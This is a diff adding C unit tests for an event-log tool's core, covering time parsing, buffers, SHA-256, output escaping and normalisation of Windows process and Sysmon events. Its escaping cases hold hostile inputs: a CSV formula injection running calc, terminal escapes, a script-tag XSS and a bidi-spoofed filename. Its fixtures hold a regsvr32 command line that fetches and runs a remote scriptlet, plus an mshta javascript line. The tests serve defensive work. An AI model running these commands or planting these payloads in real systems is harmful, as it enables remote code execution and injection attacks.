@@ -1,0 +1,496 @@
+/*
+ * check_core.c -- unit tests of the small core: time conversion, buffers,
+ * arenas, SHA-256, escaping for every output, and event normalisation.
+ */
+#include <check.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "ev_arena.h"
+#include "ev_buf.h"
+#include "ev_time.h"
+#include "ev_util.h"
+#include "event.h"
+#include "report/escape.h"
+#include "sha256.h"
+
+/* ---- time ---- */
+
+static const struct {
+	const char	*in;
+	const char	*iso;	/* NULL: must be rejected */
+} time_cases[] = {
+	{ "1601-01-01T00:00:00Z", "1601-01-01T00:00:00.0000000Z" },
+	{ "1970-01-01", "1970-01-01T00:00:00.0000000Z" },
+	{ "2019-03-04T11:22:33.1234567Z", "2019-03-04T11:22:33.1234567Z" },
+	{ "2019-03-04T11:22:33.123456789Z", "2019-03-04T11:22:33.1234567Z" },
+	{ "2019-03-04 11:22", "2019-03-04T11:22:00.0000000Z" },
+	{ "2019-03-04T11:22:33+02:00", "2019-03-04T09:22:33.0000000Z" },
+	{ "2019-03-04T23:30:00-01:30", "2019-03-05T01:00:00.0000000Z" },
+	{ "2020-02-29T00:00:00Z", "2020-02-29T00:00:00.0000000Z" },
+	{ "2019-02-29T00:00:00Z", NULL },
+	{ "2019-13-01", NULL },
+	{ "2019-03-04T25:00", NULL },
+	{ "2019-3-4", NULL },
+	{ "yesterday", NULL },
+	{ "2019-03-04T11:22:33Zjunk", NULL },
+	{ "", NULL },
+};
+
+START_TEST(test_time_roundtrip)
+{
+	char iso[EV_TIME_ISO_LEN + 1];
+	uint64_t ft;
+	int rc = ev_time_parse(time_cases[_i].in, &ft);
+
+	if (time_cases[_i].iso == NULL) {
+		ck_assert_msg(rc == -1, "'%s' accepted", time_cases[_i].in);
+		return;
+	}
+	ck_assert_msg(rc == 0, "'%s' rejected", time_cases[_i].in);
+	ev_time_iso(ft, iso);
+	ck_assert_str_eq(iso, time_cases[_i].iso);
+}
+END_TEST
+
+START_TEST(test_time_fields)
+{
+	uint64_t ft;
+
+	ck_assert_int_eq(ev_time_from_fields(1601, 1, 1, 0, 0, 0, 0, &ft), 0);
+	ck_assert_uint_eq(ft, 0);
+	ck_assert_int_eq(ev_time_from_fields(1970, 1, 1, 0, 0, 0, 0, &ft), 0);
+	ck_assert_uint_eq(ft, 116444736000000000ULL);
+	ck_assert_int_eq(ev_time_unix(ft), 0);
+	ck_assert_int_eq(ev_time_from_fields(2019, 2, 29, 0, 0, 0, 0, &ft),
+	    -1);
+	ck_assert_int_eq(ev_time_from_fields(1600, 1, 1, 0, 0, 0, 0, &ft),
+	    -1);
+}
+END_TEST
+
+/* ---- buffers and arenas ---- */
+
+START_TEST(test_buf)
+{
+	struct ev_buf b = EV_BUF_INIT;
+	char *s;
+	size_t len;
+
+	ck_assert_str_eq(b.buf, "");
+	for (int i = 0; i < 1000; i++)
+		ev_buf_addf(&b, "%d,", i);
+	ev_buf_adds(&b, "end");
+	ck_assert(!ev_buf_failed(&b));
+	ck_assert(strncmp(b.buf, "0,1,2,", 6) == 0);
+	ck_assert(strcmp(b.buf + b.len - 7, "999,end") == 0);
+	s = ev_buf_detach(&b, &len);
+	ck_assert_uint_eq(strlen(s), len);
+	ck_assert_str_eq(b.buf, "");	/* empty and reusable */
+	ck_assert_uint_eq(b.len, 0);
+	free(s);
+	ev_buf_addc(&b, 'x');
+	ck_assert_str_eq(b.buf, "x");
+	ev_buf_release(&b);
+	ck_assert_uint_eq(b.cap, 0);
+}
+END_TEST
+
+START_TEST(test_arena)
+{
+	struct ev_arena a = EV_ARENA_INIT;
+	char *p[200];
+
+	for (int i = 0; i < 200; i++) {
+		size_t n = (size_t)(i * 997 % 40000) + 1;
+
+		p[i] = ev_arena_alloc(&a, n);
+		ck_assert_ptr_nonnull(p[i]);
+		ck_assert_uint_eq((uintptr_t)p[i] % 8, 0);
+		memset(p[i], i & 0xff, n);
+	}
+	for (int i = 0; i < 200; i++)
+		ck_assert_int_eq((unsigned char)p[i][0], i & 0xff);
+	ck_assert_str_eq(ev_arena_strndup(&a, "hello world", 5), "hello");
+	ev_arena_reset(&a);
+	ck_assert_ptr_nonnull(ev_arena_alloc(&a, 16));
+	ev_arena_release(&a);
+	ck_assert_ptr_null(a.head);
+}
+END_TEST
+
+START_TEST(test_parse_numbers)
+{
+	uint64_t u;
+	int64_t v;
+
+	ck_assert_int_eq(ev_parse_uint("12", 1, 256, &u), 0);
+	ck_assert_uint_eq(u, 12);
+	ck_assert_int_eq(ev_parse_uint("0", 1, 256, &u), -1);
+	ck_assert_int_eq(ev_parse_uint("257", 1, 256, &u), -1);
+	ck_assert_int_eq(ev_parse_uint("12x", 1, 256, &u), -1);
+	ck_assert_int_eq(ev_parse_uint("-1", 0, 256, &u), -1);
+	ck_assert_int_eq(ev_parse_int_auto("0x4d2", &v), 0);
+	ck_assert_int_eq(v, 1234);
+	ck_assert_int_eq(ev_parse_int_auto("1234", &v), 0);
+	ck_assert_int_eq(v, 1234);
+	ck_assert_int_eq(ev_parse_int_auto("0x", &v), -1);
+	ck_assert_int_eq(ev_parse_int_auto("abc", &v), -1);
+}
+END_TEST
+
+/* ---- SHA-256 (FIPS 180-4 examples) ---- */
+
+START_TEST(test_sha256)
+{
+	struct sha256 s;
+	char hex[65];
+	char *million;
+
+	sha256_init(&s);
+	sha256_final_hex(&s, hex);
+	ck_assert_str_eq(hex, "e3b0c44298fc1c149afbf4c8996fb924"
+	    "27ae41e4649b934ca495991b7852b855");
+	sha256_init(&s);
+	sha256_update(&s, "abc", 3);
+	sha256_final_hex(&s, hex);
+	ck_assert_str_eq(hex, "ba7816bf8f01cfea414140de5dae2223"
+	    "b00361a396177a9cb410ff61f20015ad");
+	sha256_init(&s);
+	sha256_update(&s, "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnop"
+	    "nopq", 56);
+	sha256_final_hex(&s, hex);
+	ck_assert_str_eq(hex, "248d6a61d20638b8e5c026930c3e6039"
+	    "a33ce45964ff2167f6ecedd419db06c1");
+	million = malloc(1000000);
+	memset(million, 'a', 1000000);
+	sha256_init(&s);
+	for (int i = 0; i < 1000000; i += 999)	/* odd-sized pieces */
+		sha256_update(&s, million + i, i + 999 > 1000000 ?
+		    (size_t)(1000000 - i) : 999);
+	sha256_final_hex(&s, hex);
+	free(million);
+	ck_assert_str_eq(hex, "cdc76e5c9914fb9281a1c7e284d73e67"
+	    "f1809a48a497200e046d39ccc7112cd0");
+}
+END_TEST
+
+/* ---- escaping hostile strings ---- */
+
+static const struct {
+	const char	*name;
+	const char	*in;
+	const char	*json, *csv, *text, *html;
+} esc_cases[] = {
+	{ "plain", "C:\\Windows\\system32\\cmd.exe",
+	  "\"C:\\\\Windows\\\\system32\\\\cmd.exe\"",
+	  "C:\\Windows\\system32\\cmd.exe",
+	  "C:\\Windows\\system32\\cmd.exe",
+	  "C:\\Windows\\system32\\cmd.exe" },
+	{ "terminal escape", "a\x1b[2J\x1b]0;pwned\x07z",
+	  "\"a\\u001b[2J\\u001b]0;pwned\\u0007z\"",
+	  "a\x1b[2J\x1b]0;pwned\x07z",
+	  "a\\e[2J\\e]0;pwned\\x07z",
+	  "a&#xfffd;[2J&#xfffd;]0;pwned&#xfffd;z" },
+	{ "formula", "=cmd|' /C calc'!A0",
+	  "\"=cmd|' /C calc'!A0\"",
+	  "\"'=cmd|' /C calc'!A0\"",
+	  "=cmd|' /C calc'!A0",
+	  "=cmd|&#39; /C calc&#39;!A0" },
+	{ "plus", "+1", "\"+1\"", "\"'+1\"", "+1", "+1" },
+	{ "minus", "-urlcache", "\"-urlcache\"", "\"'-urlcache\"",
+	  "-urlcache", "-urlcache" },
+	{ "at", "@SUM(1)", "\"@SUM(1)\"", "\"'@SUM(1)\"", "@SUM(1)",
+	  "@SUM(1)" },
+	{ "script", "</script><script>alert(1)</script>",
+	  "\"</script><script>alert(1)</script>\"",
+	  "</script><script>alert(1)</script>",
+	  "</script><script>alert(1)</script>",
+	  "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" },
+	{ "quotes and commas", "a \"b\", c",
+	  "\"a \\\"b\\\", c\"", "\"a \"\"b\"\", c\"", "a \"b\", c",
+	  "a &quot;b&quot;, c" },
+	{ "newline", "a\r\nb", "\"a\\r\\nb\"", "\"a\r\nb\"", "a\\x0d\\x0ab",
+	  "a&#xfffd;\nb" },
+	{ "invalid utf-8", "a\xff\xc3(z", "\"a\xef\xbf\xbd\xef\xbf\xbd(z\"",
+	  "a\xef\xbf\xbd\xef\xbf\xbd(z", "a\xef\xbf\xbd\xef\xbf\xbd(z",
+	  "a\xef\xbf\xbd\xef\xbf\xbd(z" },
+	{ "bidi override", "evil\xe2\x80\xaetxt.exe",
+	  "\"evil\xe2\x80\xaetxt.exe\"", "evil\xe2\x80\xaetxt.exe",
+	  "evil\\u202etxt.exe", "evil\xe2\x80\xaetxt.exe" },
+	{ "c1 csi", "a\xc2\x9b" "31mz", "\"a\\u009b31mz\"",
+	  "a\xc2\x9b" "31mz", "a\\u009b31mz", "a&#xfffd;31mz" },
+	{ "line separator", "a\xe2\x80\xa8z", "\"a\\u2028z\"",
+	  "a\xe2\x80\xa8z", "a\xe2\x80\xa8z", "a\xe2\x80\xa8z" },
+};
+
+START_TEST(test_escape)
+{
+	struct ev_buf b = EV_BUF_INIT;
+
+	report_json_str(&b, esc_cases[_i].in);
+	ck_assert_msg(strcmp(b.buf, esc_cases[_i].json) == 0,
+	    "%s: json '%s'", esc_cases[_i].name, b.buf);
+	ev_buf_reset(&b);
+	report_csv_cell(&b, esc_cases[_i].in);
+	ck_assert_msg(strcmp(b.buf, esc_cases[_i].csv) == 0,
+	    "%s: csv '%s'", esc_cases[_i].name, b.buf);
+	ev_buf_reset(&b);
+	report_text_safe(&b, esc_cases[_i].in);
+	ck_assert_msg(strcmp(b.buf, esc_cases[_i].text) == 0,
+	    "%s: text '%s'", esc_cases[_i].name, b.buf);
+	ev_buf_reset(&b);
+	report_html_str(&b, esc_cases[_i].in);
+	ck_assert_msg(strcmp(b.buf, esc_cases[_i].html) == 0,
+	    "%s: html '%s'", esc_cases[_i].name, b.buf);
+	ev_buf_release(&b);
+}
+END_TEST
+
+/* ---- normalisation ---- */
+
+static struct ev_arena norm_arena;
+
+static void
+norm_setup(void)
+{
+	ev_arena_init(&norm_arena);
+}
+
+static void
+norm_teardown(void)
+{
+	ev_arena_release(&norm_arena);
+	ck_assert_ptr_null(norm_arena.head);
+}
+
+static void
+record(struct ev_record *r, const char *provider, uint32_t id,
+    const struct ev_pair *data, uint32_t n)
+{
+	memset(r, 0, sizeof(*r));
+	r->provider = provider;
+	r->event_id = id;
+	r->kind = ev_classify(provider, strlen(provider), id);
+	r->computer = "WKS01.corp.local";
+	r->channel = "Security";
+	r->record_id = 42;
+	r->time = 132000000000000000ULL;
+	r->data = data;
+	r->ndata = n;
+}
+
+START_TEST(test_classify)
+{
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
+	    strlen(EV_PROVIDER_SECURITY), 4688), EV_KIND_PROCESS);
+	ck_assert_int_eq(ev_classify("microsoft-windows-security-auditing",
+	    35, 4688), EV_KIND_PROCESS);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
+	    strlen(EV_PROVIDER_SYSMON), 4688), EV_KIND_NONE);
+	ck_assert_int_eq(ev_classify("Fake-Provider", 13, 4688), EV_KIND_NONE);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
+	    strlen(EV_PROVIDER_SYSMON), 1), EV_KIND_PROCESS);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
+	    strlen(EV_PROVIDER_SYSMON), 3), EV_KIND_NETWORK);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
+	    strlen(EV_PROVIDER_SYSMON), 7), EV_KIND_IMAGE_LOAD);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
+	    strlen(EV_PROVIDER_SYSMON), 11), EV_KIND_NONE);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
+	    strlen(EV_PROVIDER_SECURITY), 4624), EV_KIND_NONE);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_EVENTLOG,
+	    strlen(EV_PROVIDER_EVENTLOG), 1102), EV_KIND_LOG_CLEAR);
+	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
+	    strlen(EV_PROVIDER_SECURITY), 4689), EV_KIND_PROCESS_EXIT);
+}
+END_TEST
+
+START_TEST(test_norm_4688_v2)
+{
+	static const struct ev_pair d[] = {
+		{ "SubjectUserSid", "S-1-5-18" },
+		{ "SubjectUserName", "WKS01$" },
+		{ "SubjectDomainName", "CORP" },
+		{ "SubjectLogonId", "0x3e7" },
+		{ "NewProcessId", "0x1a4" },
+		{ "NewProcessName", "C:\\Windows\\System32\\mshta.exe" },
+		{ "TokenElevationType", "%%1936" },
+		{ "ProcessId", "0xd50" },
+		{ "CommandLine", "mshta.exe javascript:a" },
+		{ "TargetUserSid", "S-1-5-21-1-2-3-1001" },
+		{ "TargetUserName", "alice" },
+		{ "TargetDomainName", "CORP" },
+		{ "TargetLogonId", "0x5c3f1" },
+		{ "ParentProcessName", "C:\\Windows\\explorer.exe" },
+		{ "MandatoryLabel", "S-1-16-12288" },
+	};
+	struct ev_record r;
+	struct ev_event ev;
+
+	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
+	r.version = 2;
+	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
+	ck_assert_str_eq(ev.col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\mshta.exe");
+	ck_assert_str_eq(ev.col[EV_COL_PID], "420");
+	ck_assert_str_eq(ev.col[EV_COL_PARENT_PID], "3408");
+	ck_assert_str_eq(ev.col[EV_COL_USER], "CORP\\alice");
+	ck_assert_str_eq(ev.col[EV_COL_INTEGRITY_LEVEL], "High");
+	ck_assert_str_eq(ev.col[EV_COL_LOGON_ID], "0x3e7");
+	ck_assert_str_eq(ev.col[EV_COL_PARENT_IMAGE],
+	    "C:\\Windows\\explorer.exe");
+	ck_assert_str_eq(ev.col[EV_COL_COMMAND_LINE], "mshta.exe javascript:a");
+	ck_assert_ptr_null(ev.col[EV_COL_ORIGINAL_FILE_NAME]);
+	ck_assert_uint_eq(ev.ndata, NELEM(d));
+	ck_assert_str_eq(ev_data(&ev, "TokenElevationType"), "%%1936");
+	ck_assert_int_eq(ev.kind, EV_KIND_PROCESS);
+	ck_assert_uint_eq(ev.version, 2);
+}
+END_TEST
+
+START_TEST(test_norm_4688_v0_system)
+{
+	static const struct ev_pair d[] = {
+		{ "SubjectUserSid", "S-1-5-18" },
+		{ "SubjectUserName", "WKS01$" },
+		{ "SubjectDomainName", "CORP" },
+		{ "SubjectLogonId", "0x3e7" },
+		{ "NewProcessId", "0x1a4" },
+		{ "NewProcessName", "C:\\Windows\\System32\\svchost.exe" },
+		{ "TokenElevationType", "%%1936" },
+		{ "ProcessId", "0x2c8" },
+	};
+	struct ev_record r;
+	struct ev_event ev;
+
+	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
+	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
+	/* a well-known SID is spelled as Sysmon does */
+	ck_assert_str_eq(ev.col[EV_COL_USER], "NT AUTHORITY\\SYSTEM");
+	ck_assert_ptr_null(ev.col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev.col[EV_COL_INTEGRITY_LEVEL]);
+	ck_assert_ptr_null(ev.col[EV_COL_PARENT_IMAGE]);
+}
+END_TEST
+
+START_TEST(test_norm_4688_null_target)
+{
+	static const struct ev_pair d[] = {
+		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
+		{ "SubjectUserName", "bob" },
+		{ "SubjectDomainName", "CORP" },
+		{ "NewProcessId", "0x10" },
+		{ "NewProcessName", "C:\\x.exe" },
+		{ "TargetUserSid", "S-1-0-0" },
+		{ "TargetUserName", "-" },
+		{ "TargetDomainName", "-" },
+		{ "MandatoryLabel", "S-1-16-8192" },
+	};
+	struct ev_record r;
+	struct ev_event ev;
+
+	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
+	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
+	ck_assert_str_eq(ev.col[EV_COL_USER], "CORP\\bob");
+	ck_assert_str_eq(ev.col[EV_COL_INTEGRITY_LEVEL], "Medium");
+	ck_assert_str_eq(ev.col[EV_COL_PID], "16");
+}
+END_TEST
+
+START_TEST(test_norm_sysmon)
+{
+	static const struct ev_pair p[] = {
+		{ "RuleName", "" },
+		{ "UtcTime", "2019-03-04 11:22:33.123" },
+		{ "ProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000001}" },
+		{ "ProcessId", "4242" },
+		{ "Image", "C:\\Windows\\System32\\regsvr32.exe" },
+		{ "OriginalFileName", "REGSVR32.EXE" },
+		{ "CommandLine", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll" },
+		{ "User", "CORP\\alice" },
+		{ "IntegrityLevel", "Medium" },
+		{ "Hashes", "SHA1=AA,MD5=BB,SHA256=CC,IMPHASH=DD" },
+		{ "ParentProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000000}" },
+		{ "ParentProcessId", "100" },
+		{ "ParentImage", "C:\\Windows\\explorer.exe" },
+	};
+	static const struct ev_pair n[] = {
+		{ "ProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000001}" },
+		{ "Image", "C:\\Windows\\System32\\regsvr32.exe" },
+		{ "Protocol", "tcp" },
+		{ "Initiated", "true" },
+		{ "SourceIp", "10.0.0.5" },
+		{ "SourcePort", "50123" },
+		{ "DestinationIp", "203.0.113.9" },
+		{ "DestinationPort", "443" },
+		{ "DestinationPortName", "https" },
+	};
+	struct ev_record r;
+	struct ev_event ev;
+
+	record(&r, EV_PROVIDER_SYSMON, 1, p, NELEM(p));
+	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
+	ck_assert_str_eq(ev.col[EV_COL_PID], "4242");
+	ck_assert_str_eq(ev.col[EV_COL_PARENT_PID], "100");
+	ck_assert_str_eq(ev.col[EV_COL_ORIGINAL_FILE_NAME], "REGSVR32.EXE");
+	ck_assert_str_eq(ev.col[EV_COL_MD5], "BB");
+	ck_assert_str_eq(ev.col[EV_COL_SHA1], "AA");
+	ck_assert_str_eq(ev.col[EV_COL_SHA256], "CC");
+	ck_assert_str_eq(ev.col[EV_COL_IMPHASH], "DD");
+	ck_assert_str_eq(ev.col[EV_COL_USER], "CORP\\alice");
+
+	record(&r, EV_PROVIDER_SYSMON, 3, n, NELEM(n));
+	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
+	ck_assert_int_eq(ev.kind, EV_KIND_NETWORK);
+	ck_assert_str_eq(ev.col[EV_COL_INITIATED], "1");
+	ck_assert_str_eq(ev.col[EV_COL_DST_PORT], "443");
+	ck_assert_str_eq(ev.col[EV_COL_DST_IP], "203.0.113.9");
+	ck_assert_ptr_null(ev.col[EV_COL_COMMAND_LINE]);
+}
+END_TEST
+
+static Suite *
+core_suite(void)
+{
+	Suite *s = suite_create("core");
+	TCase *tc;
+
+	tc = tcase_create("time");
+	tcase_add_loop_test(tc, test_time_roundtrip, 0, NELEM(time_cases));
+	tcase_add_test(tc, test_time_fields);
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("memory");
+	tcase_add_test(tc, test_buf);
+	tcase_add_test(tc, test_arena);
+	tcase_add_test(tc, test_parse_numbers);
+	tcase_add_test(tc, test_sha256);
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("escape");
+	tcase_add_loop_test(tc, test_escape, 0, NELEM(esc_cases));
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("normalise");
+	tcase_add_checked_fixture(tc, norm_setup, norm_teardown);
+	tcase_add_test(tc, test_classify);
+	tcase_add_test(tc, test_norm_4688_v2);
+	tcase_add_test(tc, test_norm_4688_v0_system);
+	tcase_add_test(tc, test_norm_4688_null_target);
+	tcase_add_test(tc, test_norm_sysmon);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	SRunner *sr = srunner_create(core_suite());
+	int failed;
+
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed == 0 ? 0 : 1;
+}
